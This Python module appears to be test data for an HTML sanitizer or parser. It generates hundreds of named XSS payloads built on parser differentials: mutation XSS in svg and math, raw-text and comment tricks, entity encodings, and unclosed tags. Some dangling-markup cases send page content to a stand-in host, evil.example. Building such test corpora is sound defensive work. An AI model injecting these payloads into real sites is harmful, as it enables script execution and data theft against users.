"""What one parser reads otherwise than another: mutations, foreign content, raw text, comments."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

IMG = "<img src=x onerror=alert(1)>"

_RAW = (
    *("title", "textarea", "style", "script", "xmp", "iframe", "noembed", "noframes", "noscript"),
    *("plaintext", "template", "select", "option", "listing"),
)
"""Elements whose content is not what it is elsewhere."""
_AROUND_RAW = {
    "its end in an attribute": "<{0}><p title='</{0}>" + IMG + "'></{0}>",
    "its end in a comment": "<{0}><!--</{0}>" + IMG + "--></{0}>",
    "its end in odd case": "<{0}></{0} x=y>" + IMG,
    "no end": "<{0}>" + IMG,
    "its end unclosed": "<{0}>x</{0}" + IMG,
    "in svg": "<svg><{0}>" + IMG + "</{0}></svg>",
    "in math": "<math><{0}>" + IMG + "</{0}></math>",
    "in math text": "<math><mtext><{0}>" + IMG + "</{0}></mtext></math>",
    "in a table": "<table><{0}>" + IMG + "</{0}</table>",
    "in foreignObject": "<svg><foreignObject><{0}>" + IMG + "</{0}></foreignObject></svg>",
    "its end in an svg attribute": "<svg></p><{0}><a id='</{0}>" + IMG + "'>",
}
_INTEGRATION = {
    "mglyph and style": "<{0}><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img "
    "src=x onerror=alert(1)&gt;'>",
    "malignmark and style": "<{0}><mtext><table><malignmark><style>" + IMG + "</style>",
    "form in form": "<form><{0}><mtext></form><form><mglyph><style></{0}>" + IMG,
    "annotation": "<{0}><annotation-xml encoding=text/html><style>" + IMG + "</style>",
    "annotation as svg": "<{0}><annotation-xml encoding='application/xhtml+xml'><svg><style>" + IMG,
    "desc": "<{0}><desc><style></{0}>" + IMG + "</style>",
    "title": "<{0}><title><style></title>" + IMG + "</style>",
    "font": "<{0}><font color=x><style>" + IMG + "</style>",
    "br": "<{0}></br><style><!--</style>" + IMG + "-->",
    "p": "<{0}></p><style><a title='</style>" + IMG + "'>",
    "CDATA": "<{0}><![CDATA[<style>" + IMG + "]]></{0}>",
    "CDATA with an end": "<{0}><![CDATA[]]>" + IMG + "]]></{0}>",
    "select": "<select><{0}><mtext></select><style>" + IMG + "</style>",
}
_FOSTER = {
    "text": "<table>{0}<tr><td>x</table>",
    "in a row": "<table><tr>{0}<td>x</table>",
    "in a body": "<table><tbody>{0}</tbody></table>",
    "in a colgroup": "<table><colgroup><col>{0}</colgroup></table>",
    "in a caption": "<table><caption>{0}<table><tr></caption>{0}</table>",
    "in a select": "<table><tr><td><select>{0}</table>",
    "in a nested table": "<table><tr><td><table>{0}</td></tr>{0}</table>",
}
_TWISTED = {
    "formatting": "<b><i><p></b>{0}</i></p>",
    "adoption": "<a><b><div></a>{0}<a></b></div>",
    "many formatting": "<b><b><b><b></p>{0}</b></b>",
    "nobr": "<nobr><nobr>{0}</nobr></nobr>",
    "heading": "<h1><h2>{0}</h1></h2>",
    "button": "<button><p><button>{0}",
    "list": "<li><li><p></li>{0}</ul></li>",
    "definition": "<dl><dt><dd><dl></dd>{0}</dt>",
    "ruby": "<ruby><rb>x<rt>{0}<rp>(</ruby>",
}

COMMENTS = {
    "script after a comment": "<!--><script>alert(1)</script>-->",
    "script after a dash comment": "<!---><script>alert(1)</script>-->",
    "script after a bang comment": "<!-- --!><script>alert(1)</script>",
    "script after a nested comment": "<!-- <!-- --><script>alert(1)</script> -->",
    "script after a bogus comment": "<! x ><script>alert(1)</script>",
    "script after a bogus end tag": "</ x><script>alert(1)</script>",
    "script after an instruction": "<?x ><script>alert(1)</script> ?>",
    "script after a document type": "<!DOCTYPE html [<!ENTITY x '<script>'>]><script>alert(1)"
    "</script>",
    "script after an entity": "<!DOCTYPE x SYSTEM 'http://evil.example/x'><p>&x;<script>alert(1)",
    "comment without end": "<!-- x <script>alert(1)</script>",
    "comment with dashes": "<!----!><script>alert(1)</script><!-- -- ->" + IMG + "-->",
    "comment with an end later": "<!--<p title='--><script>alert(1)</script>'>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "revealed comment": "<![if !IE]><script>alert(1)</script><![endif]>",
    "comment in Outlook": "<!--[if mso]><v:rect href='javascript:alert(1)'>x</v:rect><![endif]-->",
    "CDATA in HTML": "<![CDATA[><script>alert(1)</script>]]>",
    "script in CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "script in an instruction": "<?xml version='1.0'?><?php alert(1) ?><?xml-stylesheet href=x?>",
    "comment in a title": "<title><!--</title>" + IMG + "--></title>",
    "comment in svg style": "<svg><style><!--</style>" + IMG + "--></style></svg>",
}

_ENTITIES = {
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities without semicolons": "&ltscript&gtalert(1)&lt/script&gt&ltimg src=x "
    "onerror=alert(1)&gt",
    "double entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "triple entities": "&amp;amp;lt;script&amp;amp;gt;alert(1)",
    "numbers": "&#60;script&#62;alert(1)&#60;/script&#62;&#x3c;img src=x onerror=alert(1)&#x3e;",
    "numbers with zeros": "&#0000000060;script&#0000000062;alert(1)",
    "numbers out of range": "&#x110000;&#xD800;&#x80;&#0;&#x0D;&#13;&#10;&#12;x",
    "controls as numbers": "&#27;[2J&#7;&#8;&#127;&#155;x&#133;y&#8232;z",
    "turning as numbers": "&#8238;gnp.exe&#8294;x&#x202b;y",
    "numbers in a tag": "<&#112; onclick=alert(1)>x<p o&#110;click=alert(1)>y",
    "named in a tag": "<p title=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;>x",
    "named characters": "&nvlt;script&nvgt;alert(1)&NotEqualTilde;&bne;",
    "entities in raw text": "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
    "entities of an alt": "<img alt='&lt;script&gt;alert(1)&lt;/script&gt;&#34;&gt;' src=x>",
    "quotes of an alt": "<img alt='\" onerror=\"alert(1)' src=x><img "
    'alt=`"><script>alert(1)</script>`>',
    "an alt with an alt": "<img alt='<img alt=&quot;><script>alert(1)</script>&quot;>'>",
    "an image without alt": "<image xlink:href=x onerror=alert(1)></image><img alt "
    "onerror=alert(1)>",
}

_UNCLOSED = {
    "unclosed attribute": "<p title='x><script>alert(1)</script>",
    "unclosed attribute, double": '<p title="x><script>alert(1)</script>',
    "unclosed tag": "<img src=x onerror=alert(1) ",
    "unclosed tag before a tag": "<img src=x onerror=alert(1) <p>x</p>",
    "unclosed tag name": "x<script",
    "unclosed end tag": "<p>x</p <script>alert(1)</script>",
    "only a bracket": "x < y <",
    "a bracket and a slash": "x </",
    "a bracket and a bang": "x <!",
    "an ampersand": "x & y &lt &#",
    "dangling markup": "<img src='http://evil.example/?",
    "dangling link": "<a href='http://evil.example/?",
    "dangling textarea": "<form action=//evil.example><button>x</button><textarea name=x>",
    "dangling style": "<style>@import 'http://evil.example/?",
    "dangling base": "<base target='",
    "dangling meta": "<meta http-equiv=refresh content='0;url=http://evil.example/?",
    "dangling select": "<select><option>",
    "dangling plaintext": "<plaintext>",
    "dangling comment": "<!--",
    "dangling template": "<template><p>",
    "dangling svg": "<svg><style>",
    "dangling table": "<table><tr><td><table><tr>",
}


def _cases() -> Iterator[tuple[str, str]]:
    for raw, (name, how) in product(_RAW, _AROUND_RAW.items()):
        yield f"{raw}, {name}", how.format(raw)
    for root, (name, how) in product(("math", "svg"), _INTEGRATION.items()):
        yield f"{name} in {root}", how.format(root)
    for name, how in {**_FOSTER, **_TWISTED}.items():
        yield f"{name} around an image", how.format(IMG)
        yield f"{name} around a script", how.format("<script>alert(1)</script>")
        yield f"{name} around a style", how.format("<style>*{display:none}</style>")
        yield f"{name} around a link", how.format("<a href=javascript:alert(1)>x</a>")


PARSING = {
    **dict(_cases()),
    **COMMENTS,
    **_ENTITIES,
    **_UNCLOSED,
    "script in a title": "<title><img title='</title><script>alert(1)</script>'></title>",
    "nested select": "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "foreign attributes": "<svg><a xlink:href=javascript:alert(1)><text x=20 "
    "y=20>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg set": "<svg><a><set attributeName=href to=javascript:alert(1) /><text "
    "y=9>x</text></a></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x",
    "svg script": "<svg><script>alert(1)</script><script href=data:,alert(1) /></svg>",
    "svg handler": "<svg onload=alert(1)><g onclick=alert(1)><rect width=99 height=99 /></g></svg>",
    "svg image": "<svg><image href=//evil.example/x.png /><feImage href=//evil.example/y /></svg>",
    "math link": "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "math action": "<math><maction actiontype='statusline#http://evil.example'>x</maction></math>",
    "xslt": "<?xml-stylesheet href='javascript:alert(1)'?><x:transform xmlns:x=x>",
    "declared shadow": "<div><template shadowrootmode=open><script>alert(1)</script></template>"
    "</div>",
    "a slot": "<slot onslotchange=alert(1)></slot><p slot=x>x</p>",
    "nested template": "<template><template><script>alert(1)</script></template></template>",
    "is and slots": "<p is=x-y slot=z part=w data-x=y aria-label=x role=alert>x",
    "deep": "<div>" * 600 + IMG + "</div>" * 600,
    "deep formatting": "<b>" * 600 + IMG,
    "deep mutation": "<form><math><mtext>" * 200 + "</form><form><mglyph><style></math>" + IMG,
    "deep lists": "<ul><li>" * 300 + IMG,
    "deep tables": "<table><tr><td>" * 150 + IMG,
}
